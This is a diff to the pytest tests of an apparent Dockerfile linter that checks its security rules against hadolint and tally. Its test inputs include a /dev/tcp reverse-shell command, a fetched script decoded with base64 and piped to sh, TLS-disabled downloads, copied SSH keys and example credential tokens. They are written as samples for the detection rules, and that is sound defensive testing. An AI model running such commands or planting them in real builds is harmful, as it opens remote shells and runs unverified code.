@@ -5,19 +5,30 @@ hadolint 2.15.1, tally 0.45.0, Checkov, KICS, BuildKit's own check, dockerfile-h
 
 from __future__ import annotations
 
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
 import pytest
 
 from dockgate.rules.registry import rules_of
-from dockgate.rules.rule import Finding
+from dockgate.rules.rule import Finding, Rule
 from tests.rules.subjects import read, run
 
+TOKEN = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"  # of GitHub's documentation
 DIGEST = "@sha256:" + 64 * "a"
+
+
+def enabled() -> list[Rule[Any]]:
+    """The rules that speak when nobody has chosen any."""
+    return [rule for rule in rules_of("dockerfile").values() if rule.enabled]
 
 
 def said(source: str) -> list[tuple[str, int, int]]:
     """Rule, line and column of all findings."""
     dockerfile = read(source)
-    found = run(list(rules_of("dockerfile").values()), dockerfile)
+    found = run(enabled(), dockerfile)
     places = [(f.rule.name, dockerfile.text.position(f.span.start)) for f in found if f.span]
     return [(name, at.line, at.column) for name, at in places]
 
@@ -109,6 +120,74 @@ def test_an_insecure_download_is_seen() -> None:
     assert "tls-verification-disabled" in names("FROM debian:12\nRUN curl -k https://x.org/\n")
 
 
+@pytest.mark.parametrize(
+    ("line", "rule", "column"),
+    [
+        (f"RUN git clone https://{TOKEN}@github.com/x/y", "secret-in-run", 23),
+        ("ENV X=AKIAIOSFODNN7EXAMPLE", "secret-in-env", 7),
+        ("ENV X=AKIAQ3EGTPZX7Y2LMNOP", "secret-in-env", 7),
+        ("COPY .env /app/", "secret-file-copied", 6),
+        ("COPY id_rsa /root/.ssh/", "secret-file-copied", 6),
+        ("RUN git clone https://user:password@github.com/x/y", "secret-in-run", 28),
+        ("COPY . .", "copy-everything", 6),
+        ("RUN make && RUN make install", "instruction-in-run", 13),
+        ("RUN <<EOF\nmake\nmake install\nEOF", "heredoc-without-errexit", 5),
+        ("RUN bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell", 5),
+        ("RUN wget -qO- https://x.org/s.sh | base64 -d | sh", "decoded-script-run", 48),
+    ],
+)  # fmt: skip
+def test_what_hadolint_does_not_see(line: str, rule: str, column: int) -> None:
+    """hadolint: silent on each; tally: on .env copies."""
+    assert (rule, 2, column) in said(f"FROM debian:12\n{line}\n")
+
+
+@pytest.mark.parametrize(
+    "fetch",
+    [
+        "curl -fsSL https://x.org/a.tar.gz | tar xz",
+        "wget -q https://x.org/a.tar.gz && tar xzf a.tar.gz",
+        "curl -fsSLo /a.deb https://x.org/a.deb && dpkg -i /a.deb",
+    ],
+)
+def test_an_unverified_archive_is_seen(fetch: str) -> None:
+    """hadolint: silent."""
+    assert "download-without-checksum" in names(f"FROM debian:12\nRUN {fetch}\n")
+
+
+def test_a_dead_base_stops_nothing() -> None:
+    """BuildKit's --check: needs the base to be reachable, and stops early otherwise."""
+    source = "FROM registry.invalid/nowhere:1\nMAINTAINER me\nCMD app\n"
+    assert {"maintainer-deprecated", "shell-form-command"} <= names(source)
+
+
+def test_a_missing_file_is_one_line(tmp_path: Path) -> None:
+    """hadolint: a backtrace."""
+    command = [sys.executable, "-m", "dockgate", "lint", str(tmp_path / "Dockerfile")]
+    done = subprocess.run(command, capture_output=True, text=True, check=False)
+    assert done.returncode in (2, 3)
+    assert len(done.stderr.splitlines()) == 1
+    assert "Traceback" not in done.stderr
+
+
+def test_several_stages_are_suggested_without_an_agent() -> None:
+    """tally: its multi-stage fix asks an AI agent."""
+    source = 'FROM golang:1.23\nCOPY . /src\nRUN go build -o /app /src\nCMD ["/app"]\n'
+    assert "build-tools-in-final-stage" in names(source)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "RUN cd /src && make -C x; ls",  # DL3003: the RUN is no one folder's
+        "RUN find / -name x | sort > /list",  # DL4006: under dash pipefail breaks the build
+        "RUN ps aux; ssh -V",  # DL3001: they work
+    ],
+)
+def test_what_reads_well_is_left_alone(line: str) -> None:
+    topics = {rule.name for rule in enabled() if rule.topic == "shell"}
+    assert names(f"FROM debian:12\n{line}\n").isdisjoint(topics)
+
+
 def test_a_missing_digest_is_seen() -> None:
     """hadolint and tally: silent."""
     assert "unpinned-base-digest" in names("FROM debian:12\n")
@@ -126,7 +205,7 @@ def test_versions_of_packages_are_not_asked_for() -> None:
 
 
 def safe_fixes(source: str) -> list[Finding]:
-    found = run(list(rules_of("dockerfile").values()), read(source))
+    found = run(enabled(), read(source))
     return [finding for finding in found if any(fix.safe for fix in finding.fixes)]
 
 
